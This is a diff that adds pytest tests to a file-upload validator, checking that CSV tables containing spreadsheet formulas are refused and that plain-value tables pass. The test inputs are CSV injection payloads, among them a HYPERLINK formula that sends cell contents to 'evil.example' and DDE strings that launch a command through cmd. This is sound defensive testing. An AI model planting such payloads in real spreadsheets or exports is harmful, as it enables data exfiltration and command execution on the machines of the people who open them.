@@ -246,3 +246,27 @@ def test_a_drawing_whose_metadata_names_its_maker_is_refused():
         assets.check_file("images/map.svg", drawing.encode(), PICTURES)
     assert refused.value.code == "document_names_person" and "Amira" not in str(refused.value.params)
     assert assets.check_file("images/map.svg", PLAIN_SVG.encode(), PICTURES).key == "svg"
+
+
+@pytest.mark.parametrize("table", [
+    b"name,link\nGuide,=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")\n",
+    b"a,b\n1,=cmd|' /C calc'!A0\n",
+    b"a\n@SUM(1+1)*cmd|' /C calc'!A0\n",
+    b"a\n\"+1+cmd|' /C calc'!A0\"\n",
+    b"a\n-2+3+cmd|' /C calc'!A0\n",
+])
+def test_a_table_with_a_formula_is_refused(table):
+    with pytest.raises(assets.Refused) as refused:
+        assets.check_file("files/table.csv", table, DOWNLOADS)
+    assert refused.value.code == "csv_formula", refused.value.params
+
+
+def test_a_table_of_values_passes():
+    table = "year,change,share,note\n2020,-12,+3.5,plain text\n2021,-0.5,12%, = after a space\n".encode()
+    assert assets.check_file("files/table.csv", table, DOWNLOADS).key == "csv"
+
+
+def test_a_table_that_cannot_be_read_is_refused_not_a_crash():
+    with pytest.raises(assets.Refused) as refused:
+        assets.check_file("files/table.csv", b'a\n"' + b"x" * 200_000 + b'"\n', DOWNLOADS)
+    assert refused.value.code == "file_kind_mismatch"
